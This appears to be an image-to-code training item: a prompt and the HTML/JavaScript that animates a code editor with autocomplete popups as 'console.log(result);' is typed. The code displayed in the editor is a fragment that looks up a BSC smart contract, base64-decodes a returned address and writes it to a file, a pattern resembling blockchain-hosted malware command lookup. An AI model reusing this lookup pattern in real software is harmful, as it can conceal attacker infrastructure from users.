
Write an HTML page that moves like this. It is 706 px wide and 358 px high and loops after 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Code editor</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #1f1f1f; }
#stage {
  position: relative; width: 706px; height: 358px; overflow: hidden;
  color: #ccc; background: #1f1f1f;
  font: 12.96px/18px "DejaVu Sans Mono", monospace; white-space: pre;
}
#stage div, #mouse { position: absolute; box-sizing: border-box; }
#stage .line { left: 53px; height: 18px; }
#stage .num { left: 0; width: 27px; text-align: right; color: #6e7681; }
#stage .num.on { color: #ccc; }
#stage .current { left: 53px; right: 0; height: 19px; border: solid #2a2a2a; border-width: 1px 0; }
#stage .guide { width: 1px; background: #404040; }
#stage .guide.on { background: #707070; }
#stage .match { width: 9px; height: 18px; border: 1px solid #888; background: rgba(0, 100, 0, .1); }
#stage .caret { width: 2px; height: 18px; background: #c8c8c8; }
#stage .squiggle { height: 4px; overflow: hidden; }
#stage .hint { width: 12px; height: 2px; background: repeating-linear-gradient(90deg, #b8b8b8 0 2px, transparent 2px 5px); }
#stage .box { background: #202020; border: 1px solid #454545; overflow: hidden; }
#stage .row { position: relative; height: 18px; padding-left: 22px; }
#stage .row.on { background: #04395e; color: #fff; }
.row svg { position: absolute; left: 2px; top: 1px; }
.row b { font-weight: normal; color: #2aaaff; }
.row i { position: absolute; right: 9px; font-style: normal; font-size: 11px; color: #9d9d9d; }
#stage .box p { margin: 0; }
.type { color: #a0a0a0; }
.prose { font: 13px/19px "Noto Sans", sans-serif; }
.prose code { font: 12.96px/15px "DejaVu Sans Mono", monospace; padding: 0 4px; border-radius: 3px; background: #383838; }
.link, .prose code.link { color: #4daafc; }
#stage .sig { left: 217px; width: 442px; height: 153px; }
#stage .sig .body { left: 27px; top: 0; bottom: 0; width: 420px; padding-left: 5px; border-left: 1px solid #454545; }
#stage .sig .rule { left: 28px; right: 0; top: 26px; height: 1px; background: #454545; }
#stage .sig .bar { right: 0; top: 0; width: 10px; height: 109px; background: #4e4e4e; }
</style>
</head>
<body>
<div id="stage"><div id="view"></div>
<svg id="mouse" width="12" height="22" fill="none">
  <path id="beam" d="M2 2.5H4.5L6 4L7.5 2.5H10M6 4V18M2 19.5H4.5L6 18L7.5 19.5H10" stroke="#000" stroke-width="3"/>
  <use href="#beam" style="display:none"/>
  <path d="M2 2.5H4.5L6 4L7.5 2.5H10M6 4V18M2 19.5H4.5L6 18L7.5 19.5H10" stroke="#fff" stroke-width="1.3"/>
</svg></div>
<script>
const LOOP = 8000, LEFT = 53, CW = 7.8, LH = 18;
const view = document.getElementById('view');
const mouse = document.getElementById('mouse');

const source = String.raw`const { Web3 } = require('web3');
const fs = require("fs");
const web3 = new Web3("wss://bsc-testnet-rpc.publicnode.com");
const contractAddress = "0x9223f0630c598a200f99c5d4746531d10319a569";
async function callContractFunction(inputString) {
    try {
        const methodId = "0x5684cff5";
        const encodedData = methodId + web3.eth.abi.encodeParameters(["string"], [inputString]);
        const result = await web3.eth.call({
            to: contractAddress,
            data: encodedData
        });
        const largeString = web3.eth.abi.decodeParameter("string", result);
        const targetAddress = Buffer.from(largeString, "base64").toString("utf-8");
        const filePath = "decoded_output.txt";
        fs.writeFileSync(filePath, "$address = " + targetAddress + "\n");
        const new_methodId = "0x5c880fcb";
        const blockNumber = 43152014;
        const newEncodedData = new_methodId + web3.eth.abi.encodeParameters(["address"], [targetAddress]);
        const newData = await web3.eth.call({`.split('\n');

// Caret position is marked with "|"
const typing = [
  [3300, '|'], [3700, 'c|'], [3900, 'co|'], [4000, 'con|'], [4100, 'cons|'], [4200, 'conso|'],
  [4300, 'consol|'], [4400, 'console|'], [4700, 'console.|'], [5000, 'console.l|'],
  [5200, 'console.lo|'], [5300, 'console.log|'], [5500, 'console.log(|)'], [5900, 'console.log(r|)'],
  [6200, 'console.log(re|)'], [6300, 'console.log(res|)'], [6400, 'console.log(resu|)'],
  [6500, 'console.log(resul|)'], [6600, 'console.log(result|)'], [6900, 'console.log(result)|'],
  [7100, 'console.log(result);|']
];

// Each entry: label, icon, origin
const globals = [
  ['console', 'variable'], ['console', 'variable', 'inspector'], ['Console', 'field', 'console'],
  ['ContractMissingDeployDataError', 'class', 'web3'], ['crossOriginIsolated', 'variable'],
  ['ContractOnceRequiresCallbackError', 'class', 'web3'], ['ERR_CONTRACT_RESOLVER_MISSING', 'variable', 'web3']
];
const members = 'assert clear count countReset debug dir log table timeLog'.split(' ').map(n => [n, 'method']);
const locals = [
  ['result', 'variable'], ['require', 'variable'], ['Reflect', 'variable'], ['RegExp', 'variable'],
  ['Request', 'variable'], ['Response', 'variable'], ['ResponseError', 'class', 'web3']
];

const cube = 'M8 2L13.5 4.7V11L8 14L2.5 11V4.7ZM2.5 4.7L8 7.5L13.5 4.7M8 7.5V14';
const icons = {
  variable: ['#75beff', 'M4.5 3.5H2V12.5H4.5M11.5 3.5H14V12.5H11.5M8 5.5L11 7V9.2L8 10.7L5 9.2V7ZM5 7L8 8.3L11 7'],
  field: ['#75beff', cube],
  method: ['#b180d7', cube],
  class: ['#ee9d28', 'M5.5 2L8.5 5L5 8.5L2 5.5ZM7 6.5H11M8.5 6.5V12H11M12.5 4.8L14.2 6.5L12.5 8.2L10.8 6.5ZM12.5 10.3L14.2 12L12.5 13.7L10.8 12Z']
};

const keywords = new Set('const new async function'.split(' '));
const control = new Set('try await'.split(' '));
const types = new Set('Web3 fs Buffer'.split(' '));
const constants = new Set(['eth', 'abi', ...source.join('\n').match(/(?<=const )\w+/g)]);
const pairColors = ['#ffd700', '#da70d6', '#179fff'];

const x = col => LEFT + col * CW;
const y = line => (line - 1) * LH;
const span = (color, text) => `<span style="color:${color}">${text}</span>`;
const div = (cls, left, top, html = '', extra = '') =>
  `<div class="${cls}" style="${left == null ? '' : `left:${left}px;`}top:${top}px;${extra}">${html}</div>`;

function wordColor(word, next) {
  if (keywords.has(word)) return '#569cd6';
  if (control.has(word)) return '#c586c0';
  if (types.has(word)) return '#4ec9b0';
  if (next === '(') return '#dcdcaa';
  return constants.has(word) ? '#4fc1ff' : '#9cdcfe';
}

function highlight(lines) {
  let depth = 0;
  return lines.map(line => line.replace(/"[^"]*"|'[^']*'|\b\d+\b|[A-Za-z_]\w*|[()[\]{}]/g, (tok, at) => {
    if (/^["']/.test(tok)) return span('#ce9178', tok.replace('\\n', span('#d7ba7d', '\\n')));
    if (/^\d/.test(tok)) return span('#b5cea8', tok);
    if (/^\w/.test(tok)) return span(wordColor(tok, line[at + tok.length]), tok);
    const level = '([{'.includes(tok) ? depth++ : --depth;
    return span(pairColors[level % 3], tok);
  }));
}

function squiggle(col, line, count) {
  const width = count * CW;
  let path = 'M0 3';
  for (let i = 1; i * 3 <= width + 3; i++) path += `L${i * 3} ${i % 2 ? 0.8 : 3}`;
  return div('squiggle', x(col), y(line) + 15,
    `<svg width="${width}" height="4" style="display:block"><path d="${path}" fill="none" stroke="#3794ff" stroke-width="1.1"/></svg>`);
}

function subsequence(label, query) {
  const hits = [];
  let from = 0;
  for (const ch of query) {
    const at = label.toLowerCase().indexOf(ch, from);
    if (at < 0) return null;
    hits.push(at);
    from = at + 1;
  }
  return hits;
}

// Longer queries may match with two neighbouring letters swapped
function fuzzy(label, query) {
  let hits = subsequence(label, query);
  for (let i = query.length - 2; !hits && query.length > 3 && i > 0; i--)
    hits = subsequence(label, query.slice(0, i) + query[i + 1] + query[i] + query.slice(i + 2));
  return hits;
}

function suggest(items, query, left) {
  const starts = item => item[0].toLowerCase().startsWith(query) ? 0 : 1;
  const found = items.filter(item => fuzzy(item[0], query)).sort((a, b) => starts(a) - starts(b));
  const rows = found.map(([label, icon, origin = ''], i) => {
    const hits = fuzzy(label, query);
    const [color, path] = icons[icon];
    const text = [...label].map((ch, k) => hits.includes(k) ? `<b>${ch}</b>` : ch).join('');
    return `<div class="row${i ? '' : ' on'}"><svg width="16" height="16" fill="none" stroke="${i ? color : '#fff'}">` +
      `<path d="${path}"/></svg>${text}<i>${origin}</i></div>`;
  });
  return div('box', left, 234, rows.join(''), 'width:431px');
}

function details(left, head, body, height) {
  return div('box', left + 430, 234, `<p class="type">${head}</p>${body}`,
    `width:430px;height:${height}px;padding:4px 0 0 5px`);
}

const consoleDocs = `<p class="prose" style="margin-top:17px">The <code>console</code> module provides a simple
debugging console that is similar to the JavaScript
console mechanism provided by web browsers.</p><p class="prose" style="margin-top:11px">The module exports two specific components:</p>`;
const logDocs = '<p class="prose link" style="margin-top:17px">MDN Reference</p>';

function signature(top) {
  const docs = `Prints to <code>stdout</code> with newline. Multiple arguments can be
passed, with the first used as the primary message and all
additional used as substitution values similar to <code class="link">printf(3)</code>
(the arguments are all passed to <code class="link">util.format()</code>).`;
  return div('box sig', null, top, '<div class="body">' +
    `<p style="margin-top:4px">log(${span('#2aaaff', 'message?: any')}, ...optionalParams: any[]): void</p>` +
    `<p class="prose" style="margin-top:13px">${docs}</p>` +
    '<p style="margin-top:11px">const count = 5;</p></div><div class="rule"></div><div class="bar"></div>');
}

function widgets(t, text, left) {
  const word = text.match(/\w*$/)[0];
  let html = '';
  if (t >= 3800 && t < 4700) {
    html += suggest(globals, word, left);
    if (t >= 4100) html += details(left, 'namespace console', consoleDocs, 200);
  } else if (t >= 4800 && t < 5500) {
    html += suggest(members, word, left);
    if (t >= 5200) html += details(left, '(method) Console.log(...data: any[]):\nvoid (+1 overload)', logDocs, 80);
  } else if (t >= 5700 && t < 6900) {
    html += signature(t < 6200 ? 234 : 64);
    if (t >= 6200) html += suggest(locals, word, left) + details(left, 'const result: any', '', 30);
  }
  return html;
}

function render(t) {
  const edit = typing.filter(e => e[0] <= t).pop();
  const row = edit ? 13 : 12;
  const typed = edit ? edit[1].replace('|', '') : '';
  const before = edit ? edit[1].split('|')[0] : '});'; 
  const col = 8 + before.length;
  const lines = source.slice();
  if (edit) lines.splice(12, 0, '        ' + typed);

  let html = div('current', null, y(row));
  html += div('guide', x(0), y(6), '', 'height:270px');
  html += div(edit ? 'guide on' : 'guide', x(4), y(7), '', 'height:252px');
  html += div(edit ? 'guide' : 'guide on', x(8), y(10), '', 'height:36px');

  const inParens = typed.includes('(') && !typed.includes(';');
  if (inParens) {
    html += div('match', x(19), y(13)) + div('match', x(8 + typed.indexOf(')')), y(13));
  } else if (t >= 100) {
    html += div('match', x(8), y(6));
  }

  highlight(lines).slice(0, 20).forEach((code, i) => {
    const n = i + 1;
    html += div(n === row ? 'num on' : 'num', null, y(n), n) + div('line', null, y(n), code);
  });
  html += div('hint', x(17), 15) + squiggle(45, 3, 14);
  if (typed === 'consol') html += squiggle(8, 13, 6);

  const since = t - (edit ? edit[0] : -100);
  if (Math.floor(since / 500) % 2 === 0) html += div('caret', x(col) - .4, y(row));
  view.innerHTML = html + widgets(t, before, Math.round(x(col)));

  // Pointer glides in from the lower right and settles
  const p = Math.min(1, Math.max(0, (t - 1400) / 600));
  const rest = (1 - p) ** 2;
  mouse.style.display = t < 1400 ? 'none' : 'block';
  mouse.style.left = 497 + 191 * rest + 'px';
  mouse.style.top = 192 + 126 * rest + 'px';
}

let shown = -1;
function tick() {
  const t = Math.floor(performance.now() % LOOP / 100) * 100;
  if (t !== shown) render(shown = t);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
